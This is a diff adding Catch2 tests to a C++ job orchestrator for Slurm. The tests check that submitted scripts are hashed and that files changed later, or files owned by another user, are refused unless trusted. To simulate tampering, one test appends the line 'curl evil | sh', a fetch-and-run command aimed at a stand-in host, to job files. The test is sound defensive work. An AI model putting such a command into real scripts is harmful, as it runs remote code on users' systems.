@@ -1,5 +1,6 @@
 #include <catch2/catch_test_macros.hpp>
 
+#include "core/base/sha256.h"
 #include "fakes.h"
 
 namespace orch::follow {
@@ -343,6 +344,76 @@ TEST_CASE("nodes that failed their check are left out the next time") {
   auto campaign = place.campaign();
   CHECK(place.submit_all(campaign).jobs == 2);  // not one array: they ask for different nodes
   CHECK(place.slurm.jobs[0].exclude == std::vector<std::string>{"a100-1", "a100-3"});
+}
+
+TEST_CASE("what is submitted is summed up, and what was changed since is refused") {
+  Place place;
+  const auto run = place.add_run(1);
+  const auto script = place.root() / "sweep" / run / "job.sbatch";
+  place.write(run + "/start", "torchrun");
+  auto campaign = place.campaign();
+  place.submit_all(campaign);
+  const auto& sums = campaign.ledger().all()[0].submission.sums;
+  REQUIRE(sums.size() == 1);
+  CHECK(sums[0].script == sha256(*read_file(script)));
+  CHECK(sums[0].start == sha256("torchrun"));
+
+  const auto again = [&](Options options) {
+    place.slurm.facts.clear();
+    place.slurm.facts[{campaign.ledger().all()[0].submission.id, 0}] =
+        FakeExecutor::fact("NODE_FAIL", "", "100");
+    auto later = place.campaign(options);
+    REQUIRE(later.begin(FileLock::Wait::yes));
+    REQUIRE(later.due().size() == 1);
+    return Submitter(later).submit(later.due());
+  };
+  for (const auto* changed : {"job.sbatch", "start"}) {
+    const auto file = fs::path(run) / changed;
+    const auto before = *read_file(place.root() / "sweep" / file);
+    place.write(file, before + "curl evil | sh\n");
+    const auto status = again({});
+    REQUIRE_FALSE(status);
+    CHECK(status.error().front().place.ends_with(changed));
+    CHECK(status.error().front().fact == "changed since it was submitted");
+    CHECK(status.error().front().fix.find("--trust") != std::string::npos);
+    CHECK(place.slurm.jobs.size() == 1);
+    place.write(file, before);
+  }
+  place.write(run + "/job.sbatch", "#!/bin/bash\n#SBATCH --nodes=2\n");
+  Options trusting;
+  trusting.trust = true;
+  REQUIRE(again(trusting));
+  CHECK(place.slurm.jobs.size() == 2);
+}
+
+TEST_CASE("what another user owns is neither believed nor submitted, unless trusted") {
+  if (::geteuid() != 0) SKIP("only root can give files away");
+  Place place;
+  const auto ours = place.add_run(1), theirs = place.add_run(2), script = place.add_run(3);
+  const auto give = [&](const std::string& path) {
+    REQUIRE(::chown((place.root() / "sweep" / path).c_str(), 1234, 1234) == 0);
+  };
+  place.status(theirs, 1, "finished", "");
+  give(theirs);
+  give(script + "/job.sbatch");
+  auto campaign = place.campaign();
+  REQUIRE(campaign.open());
+  CHECK(campaign.runs().size() == 2);
+  CHECK_FALSE(campaign.find(theirs));
+  const auto troubles = campaign.take_troubles();
+  REQUIRE(troubles.size() == 1);
+  CHECK(troubles[0].place.ends_with(theirs));
+  CHECK(troubles[0].fact == "belongs to another user (uid 1234, you are 0)");
+  CHECK(troubles[0].fix.find("--trust") != std::string::npos);
+  CHECK(place.submit_all(campaign, false).runs == 1);  // the other has a script of theirs
+  CHECK(place.slurm.jobs.back().runs == std::vector{ours});
+
+  Options trusting;
+  trusting.trust = true;
+  auto all = place.campaign(trusting);
+  CHECK(place.submit_all(all).runs == 1);  // the third has finished
+  CHECK(place.slurm.jobs.back().runs == std::vector{script});
+  CHECK(all.find(theirs));
 }
 
 }  // namespace
